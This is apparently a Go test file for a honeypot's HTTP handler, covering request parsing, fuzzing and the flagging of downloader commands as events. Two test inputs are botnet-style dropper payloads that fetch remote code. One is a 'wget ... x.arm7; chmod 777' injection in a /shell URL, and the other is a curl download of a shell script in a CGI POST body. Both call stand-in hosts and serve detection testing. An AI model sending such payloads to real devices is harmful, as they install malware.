package http_test

import (
	"bytes"
	"encoding/json"
	"net"
	"os/exec"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/spoki-telescope/spoki/handlers"
	"github.com/spoki-telescope/spoki/handlers/generic"
	"github.com/spoki-telescope/spoki/handlers/handlerstest"
	"github.com/spoki-telescope/spoki/handlers/http"
)

func TestParse(t *testing.T) {
	lim := http.Limits{MaxHeadBytes: 256, MaxHeaders: 3, MaxValueBytes: 32, MaxBodyBytes: 8}
	tests := []struct {
		name    string
		in      string
		want    http.Request
		wantErr error
	}{
		{
			name: "get",
			in:   "GET /index.html HTTP/1.1\r\nHost: x.test\r\nUser-Agent: curl/8.0\r\nAccept: */*\r\n\r\n",
			want: http.Request{Method: "GET", URL: "/index.html", Version: "HTTP/1.1", Host: "x.test", UserAgent: "curl/8.0",
				Headers: []http.Header{{"Host", "x.test"}, {"User-Agent", "curl/8.0"}, {"Accept", "*/*"}}, ContentLength: -1},
		},
		{
			name: "post with body and bare LF",
			in:   "POST /cgi-bin/x HTTP/1.0\nContent-Length: 5\n\nabcdeXX",
			want: http.Request{Method: "POST", URL: "/cgi-bin/x", Version: "HTTP/1.0",
				Headers: []http.Header{{"Content-Length", "5"}}, ContentLength: 5, Body: []byte("abcde"), BodyLen: 5},
		},
		{
			name: "body over the cap",
			in:   "POST / HTTP/1.1\r\nContent-Length: 12\r\n\r\n0123456789ab",
			want: http.Request{Method: "POST", URL: "/", Version: "HTTP/1.1",
				Headers: []http.Header{{"Content-Length", "12"}}, ContentLength: 12, Body: []byte("01234567"), BodyLen: 12, Truncated: true},
		},
		{
			name: "too many headers and a long value",
			in:   "GET / HTTP/1.1\r\nA: 1\r\nB: " + strings.Repeat("b", 40) + "\r\nC: 3\r\nD: 4\r\n\r\n",
			want: http.Request{Method: "GET", URL: "/", Version: "HTTP/1.1",
				Headers: []http.Header{{"A", "1"}, {"B", strings.Repeat("b", 32)}, {"C", "3"}}, ContentLength: -1, Truncated: true},
		},
		{
			name: "host with port and referer",
			in:   "GET / HTTP/1.1\r\nHost: [2001:db8::1]:8080\r\nReferer: http://x.test/\r\nHost: second\r\n\r\n",
			want: http.Request{Method: "GET", URL: "/", Version: "HTTP/1.1", Host: "2001:db8::1", Port: 8080, Referer: "http://x.test/",
				Headers: []http.Header{{"Host", "[2001:db8::1]:8080"}, {"Referer", "http://x.test/"}, {"Host", "second"}}, ContentLength: -1},
		},
		{
			name: "HTTP/0.9 style",
			in:   "GET /\r\n\r\n",
			want: http.Request{Method: "GET", URL: "/", ContentLength: -1},
		},
		{
			name:    "incomplete",
			in:      "GET / HTTP/1.1\r\nHost: x",
			want:    http.Request{Method: "GET", URL: "/", Version: "HTTP/1.1", Headers: []http.Header{{"Host", "x"}}, Host: "x", ContentLength: -1, Error: "incomplete head"},
			wantErr: http.ErrIncomplete,
		},
		{
			name:    "binary",
			in:      "\x16\x03\x01\x00\x05hello\r\n\r\n",
			want:    http.Request{ContentLength: -1, Error: "malformed request line"},
			wantErr: http.ErrRequestLine,
		},
		{
			name: "head over the cap",
			in:   "GET /" + strings.Repeat("a", 300) + " HTTP/1.1\r\n\r\n",
			want: http.Request{Method: "GET", URL: "/" + strings.Repeat("a", 251), ContentLength: -1, Truncated: true},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := http.Parse([]byte(tc.in), lim)
			if err != tc.wantErr {
				t.Errorf("Parse(%q) error = %v, want %v", tc.in, err, tc.wantErr)
			}
			if !reflect.DeepEqual(got, tc.want) {
				t.Errorf("Parse(%q) =\n%+v, want\n%+v", tc.in, got, tc.want)
			}
		})
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte("GET / HTTP/1.1\r\nHost: a\r\n\r\n"))
	f.Add([]byte("POST /x HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc"))
	f.Add([]byte("GET /\n\n"))
	lim := http.Limits{MaxHeadBytes: 128, MaxHeaders: 4, MaxValueBytes: 16, MaxBodyBytes: 8}
	f.Fuzz(func(t *testing.T, data []byte) {
		r, _ := http.Parse(data, lim)
		if len(r.Headers) > lim.MaxHeaders || len(r.Body) > lim.MaxBodyBytes || len(r.URL) > lim.MaxHeadBytes {
			t.Fatalf("caps not respected: %d headers, %d body bytes, %d url bytes", len(r.Headers), len(r.Body), len(r.URL))
		}
		for _, h := range r.Headers {
			if len(h.Name) > lim.MaxValueBytes || len(h.Value) > lim.MaxValueBytes {
				t.Fatalf("header %q over the value cap", h)
			}
		}
		if _, err := json.Marshal(r); err != nil {
			t.Fatalf("detail does not encode: %v", err)
		}
	})
}

// listen serves h through a real Mux on a loopback listener, the
// connections' flows claiming local port port.
func listen(t *testing.T, h handlers.Handler, port uint16) (addr string, rec *handlerstest.Recorder, ev *handlerstest.Events) {
	t.Helper()
	reg := handlers.NewRegistry(generic.New(generic.Config{}))
	reg.Register(h, handlers.Matcher{Content: http.Match, Ports: []uint16{port}})
	ev = &handlerstest.Events{}
	addr, rec = handlerstest.Serve(t, handlers.MuxConfig{Registry: reg, EmitEvent: ev.Emit, FirstDataTimeout: time.Second}, port)
	return addr, rec, ev
}

// TestCurl serves a real curl: the request is recorded, the page comes
// back, and a downloader in the URL becomes an event.
func TestCurl(t *testing.T) {
	curl := handlerstest.RequireTool(t, "curl", "curl")
	addr, rec, ev := listen(t, http.New(http.Config{Server: "test-server/1.0", Body: "<html>hi</html>\n"}), 80)
	target := "http://" + addr + "/shell?cd+/tmp;wget+http://192.0.2.9/bins/x.arm7;chmod+777+x.arm7"
	out, err := exec.Command(curl, "-sS", "-i", "-A", "spoki-test/1.0", "-H", "X-Probe: 1", target).CombinedOutput()
	if err != nil {
		t.Fatalf("curl: %v\n%s", err, out)
	}
	if !bytes.Contains(out, []byte("Server: test-server/1.0")) || !bytes.HasSuffix(out, []byte("<html>hi</html>\n")) {
		t.Errorf("curl got %q, want the configured server and body", out)
	}
	s := rec.Wait(t, 1)[0]
	r, ok := s.Detail.(http.Request)
	if !ok || s.AppProto != http.Name {
		t.Fatalf("session %q detail %T, want http Request", s.AppProto, s.Detail)
	}
	if r.Method != "GET" || r.UserAgent != "spoki-test/1.0" || net.JoinHostPort(r.Host, strconv.Itoa(r.Port)) != addr || !strings.HasPrefix(r.URL, "/shell?") || r.Error != "" {
		t.Errorf("Request = %+v", r)
	}
	evs := ev.Lines()
	if len(evs) != 1 || evs[0]["event_type"] != "downloader" || evs[0]["url"] != "http://192.0.2.9/bins/x.arm7" ||
		evs[0]["tool"] != "wget" || evs[0]["source"] != "request_line" || evs[0]["app_proto"] != "http" {
		t.Errorf("events = %v, want one wget downloader of http://192.0.2.9/bins/x.arm7", evs)
	}
}

// TestPostBody checks a body downloader and a HEAD-less 400 on garbage
// sent to an http port.
func TestPostBody(t *testing.T) {
	addr, rec, ev := listen(t, http.New(http.Config{}), 8080)
	body := "cmd=curl%20-o%20/tmp/a%20http%3A%2F%2F198.51.100.3%3A8081%2Fa.sh"
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	req := "POST /cgi-bin/luci HTTP/1.1\r\nHost: t\r\nContent-Length: " + strconv.Itoa(len(body)) + "\r\n\r\n"
	c.Write([]byte(req))
	time.Sleep(50 * time.Millisecond) // the body in a second segment
	c.Write([]byte(body))
	var got bytes.Buffer
	got.ReadFrom(c)
	if !strings.HasPrefix(got.String(), "HTTP/1.1 200 OK\r\nServer: nginx") {
		t.Errorf("answer = %q", got.String())
	}
	r := rec.Wait(t, 1)[0].Detail.(http.Request)
	if string(r.Body) != body || r.BodyLen != len(body) || r.ContentLength != int64(len(body)) {
		t.Errorf("body = %q (%d of %d), want %q", r.Body, r.BodyLen, r.ContentLength, body)
	}
	evs := ev.Lines()
	if len(evs) != 1 || evs[0]["url"] != "http://198.51.100.3:8081/a.sh" || evs[0]["source"] != "body" || evs[0]["tool"] != "curl" {
		t.Errorf("events = %v", evs)
	}

	// Not HTTP, on the http port: 400 and the error recorded.
	c2, _ := net.Dial("tcp", addr)
	defer c2.Close()
	c2.Write([]byte("\x00\x01binary\r\n\r\n"))
	got.Reset()
	got.ReadFrom(c2)
	if !strings.HasPrefix(got.String(), "HTTP/1.1 400 Bad Request") {
		t.Errorf("answer to garbage = %q", got.String())
	}
	if r := rec.Wait(t, 2)[1].Detail.(http.Request); r.Error == "" {
		t.Errorf("garbage parsed: %+v", r)
	}
}
